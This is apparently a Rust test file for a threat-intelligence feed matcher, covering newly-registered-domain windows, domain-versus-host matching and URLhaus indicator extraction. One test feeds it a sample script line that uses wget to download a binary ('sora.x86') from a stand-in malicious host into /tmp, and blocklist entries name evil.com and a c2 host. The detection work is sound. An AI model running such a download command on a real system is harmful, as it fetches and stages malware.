//! In-memory feed matching: exact values, domains over hosts, and the NRD window.

use chrono::NaiveDate;
use hubcensus_intel::{ExtractLimits, FeedKind, FeedSet, IndicatorExtractor, parse_feed};
use hubcensus_types::{Category, Indicator, IndicatorKind};

use crate::samples::URLHAUS;

fn date(y: i32, m: u32, d: u32) -> Option<NaiveDate> {
    NaiveDate::from_ymd_opt(y, m, d)
}

fn ind(kind: IndicatorKind, value: &str) -> Indicator {
    Indicator { kind, value: value.to_owned() }
}

#[test]
fn nrd_counts_only_inside_the_window_before_the_push() {
    let mut s = FeedSet::new();
    s.add("nrd.txt", parse_feed(FeedKind::Nrd, b"fresh.com 2022-05-02\n", None, None).unwrap());
    let i = [ind(IndicatorKind::Domain, "fresh.com")];
    let hits = |pushed, window| s.matches(&i, pushed, window).len();
    assert_eq!(hits(date(2022, 6, 1), 30), 1, "listed 30 days before: inside (inclusive)");
    assert_eq!(hits(date(2022, 5, 2), 30), 1, "registered the day of the push: inside");
    assert_eq!(hits(date(2022, 6, 2), 30), 0, "31 days before: outside");
    assert_eq!(hits(date(2022, 6, 2), 31), 1, "a wider window takes it");
    assert_eq!(hits(date(2022, 5, 1), 30), 0, "registered after the push: not newly registered then");
    assert_eq!(hits(None, 30), 0, "no push date: not judged");
    assert_eq!(hits(date(2022, 5, 2), 0), 1, "window 0: the push day only");
}

#[test]
fn a_listed_domain_matches_its_hosts_and_a_listed_host_only_itself() {
    let mut s = FeedSet::new();
    s.add("list.txt", parse_feed(FeedKind::Domains, b"evil.com\nc2.other.net\n", None, None).unwrap());
    let hits = s.matches(
        &[
            ind(IndicatorKind::Host, "a.b.evil.com"),
            ind(IndicatorKind::Host, "www.other.net"),
            ind(IndicatorKind::Domain, "other.net"),
        ],
        None,
        30,
    );
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].indicator, ind(IndicatorKind::Domain, "evil.com"));
    assert_eq!(hits[0].category, Category::MaliciousDomain);
    assert_eq!(hits[0].feed, "list.txt");
    // passing the domain too (as the extractor does) gives the same single match
    let both = s.matches(
        &[ind(IndicatorKind::Host, "a.b.evil.com"), ind(IndicatorKind::Domain, "evil.com")],
        None,
        30,
    );
    assert_eq!(both, hits);
}

#[test]
fn extracted_indicators_meet_urlhaus_entries() {
    let mut feeds = FeedSet::new();
    feeds.add("urlhaus.csv", parse_feed(FeedKind::Urlhaus, URLHAUS.as_bytes(), None, None).unwrap());
    feeds.add("nrd.txt", parse_feed(FeedKind::Nrd, b"evil-cdn.top 2024-05-01\n", None, None).unwrap());
    let x = IndicatorExtractor::new(ExtractLimits::default());
    let mut set = x.new_set();
    x.extract(
        "opt/run.sh",
        b"wget -q http://DL.evil-cdn.top/bins/sora.x86 -O /tmp/s; curl https://raw.githubusercontent.com/ok/repo/main/README",
        &mut set,
    );
    let indicators: Vec<Indicator> = set.into_vec().into_iter().map(|(i, _)| i).collect();
    let hits = feeds.matches(&indicators, date(2024, 5, 20), 30);
    let got: Vec<(Category, String)> =
        hits.iter().map(|h| (h.category, format!("{}={}", h.indicator.kind, h.indicator.value))).collect();
    assert_eq!(
        got,
        [
            (Category::NewlyRegisteredDomain, "domain=evil-cdn.top".to_owned()),
            (Category::MaliciousDomain, "host=dl.evil-cdn.top".to_owned()),
            (Category::MaliciousDomain, "url=http://dl.evil-cdn.top/bins/sora.x86".to_owned()),
        ]
    );
    assert_eq!(feeds.feeds(), 2);
}
